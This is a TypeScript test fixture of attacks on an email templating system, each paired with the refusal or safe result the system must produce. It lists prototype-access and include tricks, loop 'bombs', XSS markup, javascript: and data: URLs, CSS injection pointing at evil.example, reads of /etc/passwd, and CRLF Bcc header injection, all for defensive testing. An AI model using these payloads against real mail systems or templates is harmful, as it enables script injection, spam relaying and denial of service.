// Attacks by the author of a template, or by a caller that fills its variables, each with its required outcome. Used by
// attack-templates.test.ts.
import type { AttackDraft } from './attack-bench.ts';

/** An attack on the template language. */
export interface TemplateAttack {
  readonly name: string;
  readonly draft: AttackDraft;
  readonly variables?: Readonly<Record<string, unknown>>;
  /**
   * The required outcome: `publish` is refused with this code among its details, `send` is refused with this code, the send becomes
   * `failed` with this reason at its delivery, or a mail is delivered without the content named by `mail`.
   */
  readonly becomes:
    | { readonly publish: string }
    | { readonly send: string }
    | { readonly failed: RegExp }
    | { readonly mail: RegExp };
}

const any = { type: 'object', additionalProperties: true };
const text = { name: 'Ada', items: ['a', 'b'], a: { b: 'c' } };
const html = (body: string): AttackDraft => ({ body, variables: any });
const inMjml = (body: string): AttackDraft => ({
  mode: 'mjml',
  variables: any,
  body: `<mjml><mj-body><mj-section><mj-column><mj-text>${body}</mj-text></mj-column></mj-section></mj-body></mjml>`,
});
/** Content that access to a prototype must not reveal. The template may also fail to render. */
const insides = /function|native code|\[object|constructor|49/;

const refusedAtPublish = (name: string, draft: AttackDraft, code: string): TemplateAttack => ({
  name,
  draft,
  becomes: { publish: code },
});
const harmless = (name: string, body: string, variables: Readonly<Record<string, unknown>> = text): TemplateAttack => ({
  name,
  draft: html(body),
  variables,
  becomes: { mail: insides },
});
const failing = (
  name: string,
  body: string,
  failed: RegExp,
  variables: Readonly<Record<string, unknown>> = text,
): TemplateAttack => ({
  name,
  draft: html(body),
  variables,
  becomes: { failed },
});

/** Code that a template tries to run on the server, and objects that it tries to access. */
export const serverAttacks: readonly TemplateAttack[] = [
  harmless('the constructor of a text', '{{ name.constructor }}'),
  harmless('the constructor of a constructor', '{{ name.constructor.constructor }}'),
  harmless('the prototype with its name', '{{ a.__proto__ }}{{ a["__proto__"] }}{{ a.prototype }}'),
  harmless('the prototype through a variable', '{{ a[key] }}', { a: { b: 'c' }, key: 'constructor' }),
  harmless('the constructor of a list', '{{ items.constructor }}{{ items["constructor"]["constructor"] }}'),
  harmless('a method of a text', '{{ name.toString }}{{ name.valueOf }}{{ name.big }}'),
  harmless('a method of a list', '{{ items.map }}{{ items.join }}{{ items.at }}'),
  harmless('the constructor of every element', '{{ items | map: "constructor" | join: "," }}'),
  harmless('elements through their prototype', '{{ items | where: "constructor" | size }}'),
  harmless('a global object', '{{ process }}{{ global }}{{ globalThis }}{{ this }}{{ require }}{{ console.log }}'),
  {
    ...harmless('a variable called constructor', '{{ name }}', {
      name: 'a',
      constructor: { prototype: { polluted: 1 } },
    }),
    becomes: { send: 'unknown' },
  },
  {
    ...harmless('a variable called __proto__', '{{ name }}', JSON.parse('{"name":"a","__proto__":{"polluted":1}}')),
    becomes: { send: 'unknown_field' },
  },
  harmless('an expression in a variable', '{{ name }}', { name: '{{ 7 | times: 7 }}' }),
  harmless('an expression in a raw variable', '{{ name | raw }}', { name: '{{ 7 | times: 7 }}' }),
  refusedAtPublish('an include', html('{% include "/etc/passwd" %}'), 'unknown_tag'),
  refusedAtPublish('a render tag', html('{% render "secret" %}'), 'unknown_tag'),
  refusedAtPublish('a layout', html('{% layout "base" %}'), 'unknown_tag'),
  refusedAtPublish('a block', html('{% block a %}{% endblock %}'), 'unknown_tag'),
  refusedAtPublish('an inline include', html('{% liquid\ninclude "x"\n%}'), 'unknown_tag'),
  refusedAtPublish('an include with a variable name', html('{% include name %}'), 'unknown_tag'),
  refusedAtPublish('a filter that does not exist', html('{{ name | constructor }}'), 'unknown_filter'),
  refusedAtPublish('a filter that evaluates', html('{{ items | find_exp: "i", "i.constructor" }}'), 'unknown_filter'),
  refusedAtPublish(
    'a filter that groups by an expression',
    html('{{ items | group_by_exp: "i", "i" }}'),
    'unknown_filter',
  ),
];

const doubling =
  '{% assign x = "aaaaaaaaaa" %}{% for i in (1..9999) %}{% assign x = x | append: x %}{% endfor %}{{ x }}';

/** Work without end */
export const bombs: readonly TemplateAttack[] = [
  failing('a loop over a billion', '{% for i in (1..1000000000) %}x{% endfor %}', /cannot be rendered/),
  failing('a loop over a billion from a variable', '{% for i in (1..n) %}x{% endfor %}', /cannot be rendered/, {
    n: 1e9,
  }),
  failing(
    'loops in loops',
    '{% for i in (1..9000) %}{% for j in (1..9000) %}{{ name }}{% endfor %}{% endfor %}',
    /cannot be rendered/,
  ),
  failing(
    'empty loops in loops',
    '{% for i in (1..9000) %}{% for j in (1..9000) %}{% endfor %}{% endfor %}',
    /cannot be rendered/,
  ),
  failing('a text that doubles', doubling, /cannot be rendered/),
  failing(
    'a list that doubles',
    '{% assign x = items %}{% for i in (1..60) %}{% assign x = x | concat: x %}{% endfor %}{{ x | size }}',
    /cannot be rendered/,
  ),
  failing(
    'a replacement that multiplies',
    '{{ name | replace: "", big | replace: "", big | replace: "", big }}',
    /cannot be rendered/,
    {
      name: 'a'.repeat(1_000),
      big: 'b'.repeat(1_000),
    },
  ),
  failing(
    'a capture that grows',
    '{% assign x = "a" %}{% for i in (1..99) %}{% capture x %}{{ x }}{{ x }}{% endcapture %}{% endfor %}',
    /cannot be rendered/,
  ),
  failing('a range that is joined', '{{ (1..1000000000) | join: "x" }}', /cannot be rendered/),
  failing('an endless output', '{% for i in (1..9999) %}{{ big }}{% endfor %}', /cannot be rendered/, {
    big: 'b'.repeat(10_000),
  }),
  {
    name: 'a subject that loops',
    draft: { subject: '{% for i in (1..99999) %}{{ name }}{% endfor %}', variables: any },
    variables: text,
    becomes: { send: 'limit_loop' },
  },
];

/** Markup that would run, load or submit something in the reader's mail program. */
export const markupAttacks: readonly TemplateAttack[] = [
  refusedAtPublish('a script', html('<script>alert(1)</script>'), 'markup_unsafe'),
  refusedAtPublish('a script in capitals', html('<SCRIPT SRC=//evil.example></SCRIPT>'), 'markup_unsafe'),
  refusedAtPublish('a script in MJML', inMjml('<script>alert(1)</script>'), 'markup_unsafe'),
  refusedAtPublish(
    'a script in mj-raw',
    { ...inMjml(''), body: '<mjml><mj-body><mj-raw><script>a()</script></mj-raw></mj-body></mjml>' },
    'markup_unsafe',
  ),
  refusedAtPublish(
    'an mj-include',
    { ...inMjml(''), body: '<mjml><mj-body><mj-include path="/etc/passwd" type="html"/></mj-body></mjml>' },
    'markup_unsafe',
  ),
  refusedAtPublish(
    'an mj-include in the head',
    { ...inMjml(''), body: '<mjml><mj-head><mj-include path="./a.css" type="css"/></mj-head><mj-body/></mjml>' },
    'markup_unsafe',
  ),
  refusedAtPublish(
    'an mj-include after a comment',
    { ...inMjml(''), body: '<mjml><mj-body><!-- --><mj-include path="x"/></mj-body></mjml>' },
    'markup_unsafe',
  ),
  refusedAtPublish('an event handler', html('<img src="x" onerror="alert(1)">'), 'markup_unsafe'),
  refusedAtPublish('an event handler in mj-text', inMjml('<b onclick="a()">x</b>'), 'markup_unsafe'),
  refusedAtPublish('an event handler after a slash', html('<img/onerror=alert(1) src=x>'), 'markup_unsafe'),
  refusedAtPublish('an iframe', html('<iframe src="https://evil.example"></iframe>'), 'markup_unsafe'),
  refusedAtPublish('a document in an iframe', html('<iframe srcdoc="<script>a()</script>"></iframe>'), 'markup_unsafe'),
  refusedAtPublish('an object', html('<object data="x"></object>'), 'markup_unsafe'),
  refusedAtPublish('a form', html('<form action="https://evil.example"><input name="a"></form>'), 'markup_unsafe'),
  refusedAtPublish('a base', html('<base href="https://evil.example/">'), 'markup_unsafe'),
  refusedAtPublish('an SVG with a handler', html('<svg onload="a()"></svg>'), 'markup_unsafe'),
  refusedAtPublish('a link with code', html('<a href="javascript:alert(1)">x</a>'), 'url_unsafe'),
  refusedAtPublish(
    'a link with code in references',
    html('<a href="&#106;avascript&colon;alert(1)">x</a>'),
    'url_unsafe',
  ),
  refusedAtPublish('a link with code over two lines', html('<a href="java\nscript:alert(1)">x</a>'), 'url_unsafe'),
  refusedAtPublish('a link with a document', html('<a href="data:text/html,<script>a()</script>">x</a>'), 'url_unsafe'),
  refusedAtPublish(
    'a button with code',
    {
      ...inMjml(''),
      body: '<mjml><mj-body><mj-section><mj-column><mj-button href="javascript:a()">x</mj-button></mj-column></mj-section></mj-body></mjml>',
    },
    'url_unsafe',
  ),
  refusedAtPublish('a style that runs', html('<div style="width:expression(alert(1))">x</div>'), 'css_unsafe'),
  refusedAtPublish('a style whose URL runs', html('<div style="background:url(javascript:a())">x</div>'), 'css_unsafe'),
  refusedAtPublish(
    'a redirect',
    html('<meta http-equiv="refresh" content="0;url=https://evil.example">'),
    'markup_unsafe',
  ),
  refusedAtPublish('a variable as a tag', html('<{{ name }}>x'), 'liquid_position'),
  refusedAtPublish('a variable as an attribute', html('<p {{ name }}>x</p>'), 'liquid_position'),
  refusedAtPublish('a variable in a handler', html('<p onclick="{{ name }}">x</p>'), 'liquid_position'),
  refusedAtPublish('a variable in a script', html('<script>{{ name }}</script>'), 'markup_unsafe'),
  refusedAtPublish('a variable in an unquoted attribute', html('<a href={{ name }}>x</a>'), 'liquid_position'),
];

const link = '<a href="{{ url }}">x</a>';
const unsafe = /cannot be rendered/;
const inColumn = (inner: string): AttackDraft => ({
  ...inMjml(''),
  body: `<mjml><mj-body><mj-section><mj-column>${inner}</mj-column></mj-section></mj-body></mjml>`,
});
const refusedAtSend = (name: string, body: string, variables: Readonly<Record<string, unknown>>): TemplateAttack => ({
  name,
  draft: html(body),
  variables,
  becomes: { send: 'url_unsafe' },
});

/** Hostile values of variables. */
export const variableAttacks: readonly TemplateAttack[] = [
  ...[
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
    '\u0001javascript:a()',
  ].map((url, index) => refusedAtSend(`code in a link, ${index + 1}`, link, { url })),
  refusedAtSend('a document in a link', link, { url: 'data:text/html;base64,PHNjcmlwdD4=' }),
  refusedAtSend('vbscript in a link', link, { url: 'vbscript:msgbox(1)' }),
  refusedAtSend('a file in an image', '<img src="{{ url }}">', { url: 'file:///etc/passwd' }),
  refusedAtSend('a drawing in a data URL of an image', '<img src="{{ url }}">', {
    url: 'data:image/svg+xml,<svg onload=a()>',
  }),
  ...[
    ['a button', '<mj-button href="{{ url }}">x</mj-button>'],
    ['an image', '<mj-image src="{{ url }}" />'],
    ['a linked image', '<mj-image src="https://x.example/a.png" href="{{ url }}" />'],
    ['a text', '<mj-text><a href="{{ url }}">x</a></mj-text>'],
    ['a raw part', '<mj-raw><a href="{{ url }}">x</a></mj-raw>'],
    ['a social link', '<mj-social><mj-social-element name="web" href="{{ url }}">x</mj-social-element></mj-social>'],
    ['a menu', '<mj-navbar><mj-navbar-link href="{{ url }}">x</mj-navbar-link></mj-navbar>'],
  ].flatMap(([markup = '', inner = '']) =>
    ['javascript:alert(1)', 'data:text/html,<script>a()</script>'].map(
      (url): TemplateAttack => ({
        name: `${url.slice(0, 4)} in ${markup} of MJML`,
        draft: inColumn(inner),
        variables: { url },
        becomes: { send: 'url_unsafe' },
      }),
    ),
  ),
  failing('code in two variables', '<a href="{{ a }}{{ b }}">x</a>', unsafe, { a: 'java', b: 'script:alert(1)' }),
  failing('code inside an if', '<a href="{% if a %}{{ a }}{% endif %}:x">x</a>', unsafe, { a: 'javascript' }),
  failing('a rule in a style', '<p style="color:{{ css }}">x</p>', unsafe, {
    css: 'red;background:url(https://evil.example)',
  }),
  failing('a URL in a style', '<p style="background:{{ css }}">x</p>', unsafe, {
    css: 'url(https://evil.example/a.png)',
  }),
  failing('an escaped URL in a style', '<p style="background:{{ css }}">x</p>', unsafe, { css: '\\75rl(x)' }),
  failing('the end of a style', '<style>p{color:{{ css }}}</style><p>x</p>', unsafe, {
    css: 'red}</style><script>a()</script>',
  }),
  {
    ...harmless('a script in a text variable', '<p>{{ name }}</p>', { name: '<script>alert(1)</script>' }),
    becomes: { mail: /<script/ },
  },
  {
    ...harmless('the end of an attribute', '<p title="{{ name }}">x</p>', { name: '" onmouseover="a()' }),
    becomes: { mail: /" onmouseover="/ },
  },
  {
    ...harmless('the end of an attribute in single quotes', "<p title='{{ name }}'>x</p>", {
      name: "' onmouseover='a()",
    }),
    becomes: { mail: /' onmouseover='/ },
  },
  {
    name: 'a line break in a subject',
    draft: { subject: 'Hi {{ name }}', variables: any },
    variables: { name: 'a\r\nBcc: e@f.gg' },
    becomes: { send: 'line_break' },
  },
  {
    name: 'a line break through a filter',
    draft: { subject: '{{ name | url_decode }}', variables: any },
    variables: { name: 'a%0D%0ABcc: e@f.gg' },
    becomes: { send: 'line_break' },
  },
  {
    name: 'a line separator in a subject',
    draft: { subject: 'Hi {{ name }}', variables: any },
    variables: { name: 'a\u2028Bcc: e@f.gg' },
    becomes: { send: 'line_break' },
  },
];
